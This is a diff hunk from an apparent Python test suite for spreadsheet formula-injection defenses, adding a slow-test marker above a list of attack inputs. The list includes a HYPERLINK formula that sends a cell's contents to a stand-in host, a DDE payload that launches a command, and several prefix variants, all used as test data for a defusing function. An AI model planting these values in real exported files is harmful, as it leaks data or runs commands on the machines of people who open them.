@@ -21,6 +21,8 @@ from serving.formulas import TRIGGERS, defuse
 from tests.store.api_client import bearer, token
 from tests.store.published import PASSWORD
 
+pytestmark = pytest.mark.slow  # real weekly runs and an app on the shared published store
+
 WEEK = "2025-W45"
 ATTACKS = ['=HYPERLINK("http://x.example/?d="&A1,"点击")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "\t=1+1", "＝1+1", " =1+1"]  # (a bare CR inside a CSV field is a line break to the reader)
